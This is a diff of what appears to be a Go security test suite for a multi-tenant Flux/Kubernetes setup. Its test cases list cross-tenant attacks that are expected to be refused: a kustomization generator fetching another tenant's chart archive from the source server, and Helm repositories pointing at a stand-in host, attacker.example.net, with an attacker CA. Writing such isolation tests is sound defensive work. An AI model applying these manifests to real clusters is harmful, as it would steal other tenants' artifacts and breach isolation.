@@ -39,8 +39,8 @@ func remoteAttacks() []attack {
 	}
 	list = append(list, []attack{
 		{
-			name:  "another tenant's source taken",
-			git:   kustomizationFile(`configMapGenerator: [{name: "${id}", files: ["t=http://` + sourceServer + `./gitrepository/${victim}/attacks/latest.tar.gz"]}]`),
+			name:  "another tenant's chart taken",
+			git:   kustomizationFile(`configMapGenerator: [{name: "${id}", files: ["t=http://` + sourceServer + `./helmchart/${victim}/${victim}-app/latest.tar.gz"]}]`),
 			flags: refusal{byEnvironment, deadProxy},
 			rule:  "kustomize-remote",
 		},
@@ -61,14 +61,12 @@ func remoteAttacks() []attack {
 			with:   attackersCA + "\n---\n" + helmRepository("https://attacker.example.net/${me}", "certSecretRef: {name: attacker}"),
 			object: helmChart,
 			flags:  refusal{byEnvironment, "proxyconnect tcp"},
-			rule:   "flux-lockdown-egress",
 		},
 		{
 			name:   "another tenant's chart, by an index on a server that the platform allows",
 			with:   helmRepository("${files}/${me}", ""),
 			object: helmChart,
 			flags:  refusal{byEnvironment, "proxyconnect tcp"},
-			rule:   "flux-lockdown-egress",
 		},
 	}...)
 	return list
